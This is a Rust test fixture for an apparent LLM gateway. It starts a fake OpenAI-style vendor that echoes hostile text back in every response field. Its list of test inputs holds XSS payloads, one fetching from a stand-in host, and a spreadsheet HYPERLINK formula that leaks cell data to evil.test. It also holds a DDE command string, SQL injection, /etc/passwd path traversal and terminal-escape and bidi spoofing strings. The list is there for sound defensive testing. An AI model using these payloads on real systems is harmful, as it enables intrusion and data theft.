//! An instance in the wild: hostile text, and a provider that repeats it wherever it may hurt.

use std::sync::Arc;

use serde_json::{Value, json};
use signalbox_app::dto::{self, ExportFormat};
use signalbox_app::{App, AppError, Caller, Source, changes, export, keys, operations, requests};
use signalbox_core::provider::ProviderKind;
use signalbox_testkit::{Prices, Reply, TestApp};

use crate::probe::{Asked, Said, Vendor};

/// What somebody who means harm would send, and what breaks by accident.
pub fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "<script>fetch('http://evil.test')</script><img src=x onerror=alert(1)>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        "![pixel](http://evil.test/pixel.png) [click](javascript:alert(1))",
        "javascript:alert(document.cookie)",
        "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>",
        "invoice\u{202e}gnp.exe \u{2066}hidden\u{2069} zero\u{200b}width \u{feff}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred",
        "before\0after",
        "first\r\nFORGED 2026-01-01 ERROR all is lost\nFORGED twice",
        "data: {\"choices\":[]}\n\ndata: [DONE]\n\n",
        "👩‍👩‍👧‍👦🏴‍☠️ e\u{301} \u{fffd}\u{10ffff}",
        "=HYPERLINK(\"http://evil.test?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "'); DROP TABLE requests; --",
        "\"quoted\",\"and\",\"separated\"",
        "../../../etc/passwd",
        "op:chat_message",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("🦀<b>".repeat((1 << 20) / 7));
    texts
}

/// A vendor that says what it is told, in the place that the model's name says.
fn repeat(asked: &Asked) -> Said {
    let text = asked.says();
    if asked.credential.is_empty() || !asked.path.ends_with("/chat/completions") {
        return Said::plain(404, asked.path.clone());
    }
    let whole = |content: &str, finish: &str| {
        json!({"id": finish, "model": finish, "choices": [
            {"index": 0, "message": {"role": finish, "content": content}, "finish_reason": finish}
        ]})
    };
    match (asked.body["model"].as_str().unwrap(), asked.wants_stream()) {
        ("error", _) => Said::json(400, &json!({"error": {"message": text, "type": text, "code": text}})),
        ("plain", _) => Said::plain(500, text),
        ("finish", _) => Said::json(200, &whole("Fine.", text)),
        (_, false) => Said::json(200, &whole(text, "stop")),
        (_, true) => Said::events(&[
            json!({"choices": [{"index": 0, "delta": {"content": text}}]}),
            json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}),
        ]),
    }
}

/// A running instance with a provider `wild`.
pub struct World {
    pub app: TestApp,
    pub admin: App,
    pub me: Caller,
    _vendor: Vendor,
}

impl World {
    pub async fn new() -> Self {
        let app = TestApp::start().await.unwrap();
        app.log_payloads().await.unwrap();
        let vendor = Vendor::start(repeat).await;
        app.add_provider("wild", ProviderKind::Openai, &format!("{}/v1", vendor.url)).await.unwrap();
        for model in ["wild/echo", "wild/error", "wild/plain", "wild/finish"] {
            app.add_model(model, Prices::per_mtok("1", "2")).await.unwrap();
        }
        let admin = App::with_engine(Arc::clone(&app.engine)).unwrap();
        Self { app, admin, me: Caller::local(Source::Window), _vendor: vendor }
    }

    /// Says `text` to a model, in the name of `text`.
    pub fn asking(&self, model: &str, text: &str, stream: bool) -> reqwest::RequestBuilder {
        let mut body = chat(model, text);
        body["user"] = json!(text);
        body["stream"] = json!(stream);
        self.app.post("/v1/chat/completions", &body).header("x-signalbox-operation", "chat_message")
    }

    pub async fn ask(&self, model: &str, text: &str) -> Reply {
        self.app.send(self.asking(model, text, false)).await.unwrap()
    }

    /// Sends a request with a key of its own.
    pub async fn ask_with(&self, key: &str, body: &Value) -> Reply {
        let asking = self.app.http.post(self.app.url("/v1/chat/completions")).bearer_auth(key).json(body);
        self.app.send(asking.header("x-signalbox-operation", "chat_message")).await.unwrap()
    }

    pub async fn detail(&self, reply: &Reply) -> dto::RequestDetail {
        let id = reply.request_id().unwrap().to_string();
        self.app.engine.caught_up().await;
        requests::detail(&self.admin, &self.me, &id).await.unwrap()
    }

    pub async fn export(&self, format: ExportFormat) -> Vec<u8> {
        let mut file = Vec::new();
        let filter = dto::RequestFilter::default();
        export::write(&self.admin, &self.me, filter, format, &mut file).await.unwrap();
        file
    }

    pub async fn create_key(&self, name: &str) -> Result<keys::KeyMade, AppError> {
        let input = dto::KeyInput { name: name.to_owned(), ..dto::KeyInput::default() };
        keys::create(&self.admin, &self.me, input).await
    }

    /// Switches an operation, for a reason.
    pub async fn switch(&self, on: bool, reason: &str) -> Result<dto::Operation, AppError> {
        let now = operations::find(&self.admin, &self.me, "email_analysis").await.unwrap();
        let draft = dto::RouteDraft { enabled: on, reason: Some(reason.to_owned()), ..now.draft() };
        let applied = operations::route_apply(&self.admin, &self.me, draft).await;
        applied.map(|proposed| proposed.applied().unwrap())
    }

    pub async fn changes(&self) -> dto::ChangePage {
        changes::page(&self.admin, &self.me, dto::ChangeFilter::default(), None, 500).await.unwrap()
    }
}

/// A request that says `text` to a model.
pub fn chat(model: &str, text: &str) -> Value {
    json!({"model": model, "messages": [{"role": "user", "content": text}]})
}
